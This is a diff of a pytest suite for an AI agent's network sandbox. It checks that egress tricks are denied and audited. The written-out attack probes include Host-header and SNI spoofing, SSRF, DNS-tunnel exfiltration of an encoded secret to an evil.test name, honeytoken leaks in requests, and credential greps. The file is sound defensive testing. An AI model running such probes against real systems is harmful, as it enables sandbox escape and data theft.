@@ -7,21 +7,41 @@ server this test starts on the Docker host to stand for "anything the host liste
 from __future__ import annotations
 
 import base64
-import contextlib
 import http.server
+import ipaddress
 import json
-import socket
 import threading
 from collections.abc import Iterator
 from typing import Any
 
 import pytest
 
-from .conftest import TEST_GITHUB_TOKEN, TEST_KEY, Cli, Internet, docker
+from .conftest import TEST_GITHUB_TOKEN, TEST_IMAGE, TEST_KEY, Cli, Internet, docker
 
 
 def lines_for(cli: Cli, slug: str, **match: Any) -> list[dict[str, Any]]:
+    """The audit lines with these fields, waiting for the first (lines land as decisions are made): never
+    an empty list that an all() would pass."""
+    cli.wait_line(slug, **match)
     return [ln for ln in cli.audit(slug) if all(ln.get(k) == v for k, v in match.items())]
+
+
+UDP_PROBE = """
+import socket, sys
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(3)
+try:
+    u.sendto(b"probe", (sys.argv[1], int(sys.argv[2])))
+    print("reply", u.recvfrom(64)[0])
+except OSError as exc:
+    print("blocked", type(exc).__name__)
+"""
+
+
+def control_reaches(internet: Internet, ip: str, port: int) -> str:
+    """A control container on the fake internet sends the same UDP probe: it must get the echo."""
+    return docker("run", "--rm", "--network", internet.network, TEST_IMAGE, "python3", "-c", UDP_PROBE, ip,
+                  str(port)).stdout  # fmt: skip
 
 
 def py(cli: Cli, slug: str, code: str) -> tuple[int, str]:
@@ -34,12 +54,14 @@ def test_host_header_naming_a_forbidden_host(cli: Cli, bottle: str) -> None:
         bottle, "curl -sS -m 10 -o /dev/null -w '%{http_code}' -H 'Host: forbidden.test' http://allowed.test/"
     )
     assert out.startswith("403")
-    assert lines_for(cli, bottle, reason="host-header-mismatch", decision="deny")
+    line = cli.wait_line(bottle, reason="host-header-mismatch", decision="deny")
+    assert line["host_header"] == "forbidden.test" and line["host"] == "allowed.test"
 
 
 def test_userinfo_spelling_goes_to_the_real_host(cli: Cli, bottle: str) -> None:
     _, out = cli.sh(bottle, "curl -sS -m 10 -o /dev/null -w '%{http_code}' http://allowed.test@forbidden.test/")
     assert out.startswith("403")
+    cli.wait_line(bottle, host="forbidden.test", decision="deny", reason="host not in allow list")
 
 
 def test_raw_absolute_uri_with_a_lying_host_header(cli: Cli, bottle: str) -> None:
@@ -54,6 +76,7 @@ print(s.recv(200).split(b"\\r\\n")[0].decode())
 """,
     )
     assert "403" in out, out
+    cli.wait_line(bottle, host="forbidden.test", decision="deny", kind="http")
 
 
 def test_tunnel_to_an_allowed_host_carrying_another_hosts_request(cli: Cli, bottle: str) -> None:
@@ -70,7 +93,7 @@ print("reply:", s.recv(200))
 """,
     )
     assert "200 Connection established" in out and "reply: b''" in out, out
-    assert lines_for(cli, bottle, kind="connect", reason="tunnel-not-tls")
+    cli.wait_line(bottle, kind="connect", reason="tunnel-not-tls", decision="deny", host="allowed.test")
 
 
 def test_sni_naming_another_host_is_cut(cli: Cli, bottle: str) -> None:
@@ -92,14 +115,16 @@ print("reply:", s.recv(200))
 """,
     )
     assert "200 Connection established" in out and "reply: b''" in out, out
-    assert lines_for(cli, bottle, kind="connect", host="allowed.test", reason="sni-mismatch", decision="deny")
+    line = cli.wait_line(bottle, kind="connect", host="allowed.test", reason="sni-mismatch", decision="deny")
+    assert line["sni"] == "forbidden.test"
 
 
-def test_allowed_name_resolving_to_a_private_address(cli: Cli, bottle: str) -> None:
+def test_allowed_name_resolving_to_a_private_address(cli: Cli, bottle: str, internet: Internet) -> None:
     # private.test is allowed (port 80) but, without private = true, its private address is refused.
     _, out = cli.sh(bottle, "curl -sS -m 10 http://private.test/")
     assert "ssrf" in out and "hello" not in out
-    assert lines_for(cli, bottle, host="private.test", decision="deny")[0]["reason"].startswith("ssrf:")
+    line = cli.wait_line(bottle, host="private.test", decision="deny")
+    assert line["reason"] == "ssrf: resolves to a non-public address" and line["resolved"] == internet.allowed_ip
 
 
 # -- DNS -----------------------------------------------------------------------------------------
@@ -107,28 +132,20 @@ def test_dns_outside_names_and_tunnel_shaped_names(cli: Cli, bottle: str) -> Non
     label = base64.b32encode(b"secret data going out").decode().rstrip("=").lower()
     _rc, out = cli.sh(bottle, f"getent hosts example.com; echo rc=$?; getent hosts {label}.t.evil.test; echo rc=$?")
     assert out.count("rc=2") == 2, out  # no answer for either
-    dns = lines_for(cli, bottle, kind="dns")
-    assert any(d["host"] == "example.com" and d["reason"] == "nxdomain" for d in dns)
-    tunnel = [d for d in dns if d["reason"] == "dlp:encoded-hostname"]
-    assert tunnel and label not in json.dumps(cli.audit(bottle))
+    cli.wait_line(bottle, kind="dns", host="example.com", reason="nxdomain", decision="deny")
+    line = cli.wait_line(bottle, kind="dns", reason="dlp:encoded-hostname", decision="deny")
+    assert line["host"] == "[REDACTED:encoded-hostname].t.evil.test"
+    assert label not in json.dumps(cli.audit(bottle))
+    # The control: a name the bottle's DNS does answer gets an answer, so rc=2 above means refused.
+    _rc, out = cli.sh(bottle, "getent hosts egress; echo rc=$?")
+    assert "rc=0" in out, out
 
 
 def test_direct_dns_to_an_outside_resolver_has_no_route(cli: Cli, bottle: str, internet: Internet) -> None:
-    _rc, out = py(
-        cli,
-        bottle,
-        f"""
-import socket
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.settimeout(3)
-try:
-    s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01",
-             ("{internet.forbidden_ip}", 53))
-    print("reply", s.recvfrom(512))
-except OSError as exc:
-    print("blocked", type(exc).__name__)
-""",
-    )
+    # The forbidden host answers on UDP 53 (an echo): a control container on its network gets a reply ...
+    assert "reply b'echo:probe'" in control_reaches(internet, internet.forbidden_ip, 53)
+    # ... and from inside the bottle the same datagram has no route.
+    _rc, out = cli.sh(bottle, f"python3 -c '{UDP_PROBE}' {internet.forbidden_ip} 53")
     assert "blocked" in out and "reply" not in out, out
 
 
@@ -137,23 +154,19 @@ def test_raw_sockets_and_udp_are_refused(cli: Cli, bottle: str, internet: Intern
     _rc, out = py(
         cli,
         bottle,
-        f"""
+        """
 import socket
 try:
     socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
     print("raw ok")
 except PermissionError:
     print("raw refused")
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.settimeout(2)
-try:
-    u.sendto(b"x", ("{internet.allowed_ip}", 80))
-    print("udp reply", u.recvfrom(10))
-except OSError as exc:
-    print("udp blocked", type(exc).__name__)
 """,
     )
-    assert "raw refused" in out and "udp blocked" in out, out
+    assert "raw refused" in out, out
+    assert "reply b'echo:probe'" in control_reaches(internet, internet.allowed_ip, 53)
+    _rc, out = cli.sh(bottle, f"python3 -c '{UDP_PROBE}' {internet.allowed_ip} 53")
+    assert "blocked" in out and "reply" not in out, out
 
 
 @pytest.fixture
@@ -174,20 +187,28 @@ def host_server() -> Iterator[int]:
         server.server_close()
 
 
-def test_the_docker_hosts_gateway_addresses_are_unreachable(cli: Cli, bottle: str, host_server: int) -> None:
+def test_the_docker_hosts_gateway_addresses_are_unreachable(
+    cli: Cli, bottle: str, host_server: int, internet: Internet
+) -> None:
     net = json.loads(docker("network", "inspect", f"claude-bottle-{bottle}-internal").stdout)[0]
     gateway = net["IPAM"]["Config"][0].get("Gateway") or str(
-        __import__("ipaddress").ip_network(net["IPAM"]["Config"][0]["Subnet"])[1]
+        ipaddress.ip_network(net["IPAM"]["Config"][0]["Subnet"])[1]
     )
     docker0 = docker("network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Gateway}}").stdout.strip()
-    with contextlib.closing(socket.create_connection(("127.0.0.1", host_server), timeout=5)):
-        pass  # the server is up on the host
+    inet = json.loads(docker("network", "inspect", internet.network).stdout)[0]["IPAM"]["Config"][0]
+    inet_gw = inet.get("Gateway") or str(ipaddress.ip_network(inet["Subnet"])[1])
+    probe = f"import urllib.request as u; print(u.urlopen('http://{inet_gw}:{host_server}/', timeout=5).status)"
+    # The control: an ordinary container reaches the host's server through its network's gateway.
+    assert (
+        docker("run", "--rm", "--network", internet.network, TEST_IMAGE, "python3", "-c", probe).stdout.strip() == "200"
+    )
     for addr in filter(None, (gateway, docker0)):
         rc, out = cli.sh(bottle, f"curl -sS -m 5 --noproxy '*' http://{addr}:{host_server}/ -o /dev/null")
         assert rc != 0, f"the bottle reached the host at {addr}: {out}"
         # Through the proxy: a private address that no rule allows.
         _, out = cli.sh(bottle, f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{addr}:{host_server}/")
         assert out.startswith("403")
+        cli.wait_line(bottle, host=addr, port=host_server, decision="deny", reason="host not in allow list")
 
 
 # -- exfiltration ----------------------------------------------------------------------------------
@@ -208,24 +229,29 @@ def test_exfiltration_in_url_header_body_and_host_name(cli: Cli, bottle: str) ->
         "host": f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' https://{key_id.lower()}.allowed.test/",
     }
     for what, script in attempts.items():
+        before = len(cli.audit(bottle))
         _, out = cli.sh(bottle, script)
         assert out.startswith("403") or "response 403" in out, f"{what}: {out}"
-    reasons = [ln["reason"] for ln in cli.audit(bottle) if str(ln.get("reason", "")).startswith("dlp:")]
-    assert reasons.count("dlp:honeytoken") >= 5, reasons
+        cli.wait_line(bottle, reason="dlp:honeytoken", decision="deny")
+        new = [ln for ln in cli.audit(bottle)[before:] if ln.get("reason") == "dlp:honeytoken"]
+        assert len(new) == 1, (what, new)
     text = json.dumps(cli.audit(bottle))
     assert key_id not in text and npm not in text and key_id.lower() not in text
 
 
 def test_the_real_key_is_nowhere_in_the_bottle(cli: Cli, bottle: str) -> None:
-    _rc, out = cli.sh(
-        bottle,
-        "echo $ANTHROPIC_API_KEY; tr '\\0' '\\n' < /proc/1/environ | grep -c placeholder; "
-        f"grep -rIs --exclude-dir=proc --exclude-dir=sys -l '{TEST_KEY[:24]}' / ; echo done",
-    )
-    assert out.splitlines()[0] == "claude-bottle-placeholder"
-    assert out.strip().endswith("done") and TEST_KEY[:24] not in out
-    for svc in ("agent", "net"):
+    needle = TEST_KEY[:32]
+    grep = f"grep -rIsl --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -e '{needle}' / 2>/dev/null; echo end"
+    # The control: the same search finds the key when a copy of it is there.
+    _rc, out = cli.sh(bottle, f"echo '{needle}' > /tmp/control-copy; {grep}; rm /tmp/control-copy")
+    assert out.split() == ["/tmp/control-copy", "end"], out
+    _rc, out = cli.sh(bottle, grep)
+    assert out.split() == ["end"], f"files holding the real key in the bottle: {out}"
+    _rc, out = cli.sh(bottle, "echo $ANTHROPIC_API_KEY; tr '\\0' '\\n' < /proc/1/environ | grep -c placeholder")
+    assert out.split() == ["claude-bottle-placeholder", "1"], out
+    for svc in ("agent", "net", "egress"):
         inspect = docker("inspect", f"claude-bottle-{bottle}-{svc}").stdout
-        assert TEST_KEY not in inspect and TEST_GITHUB_TOKEN not in inspect
+        assert svc in inspect and TEST_KEY not in inspect and TEST_GITHUB_TOKEN not in inspect
     image = json.loads(docker("inspect", f"claude-bottle-{bottle}-agent").stdout)[0]["Config"]["Image"]
-    assert TEST_KEY not in docker("history", "--no-trunc", image).stdout
+    history = docker("history", "--no-trunc", image).stdout
+    assert "claude-code" in history and TEST_KEY not in history
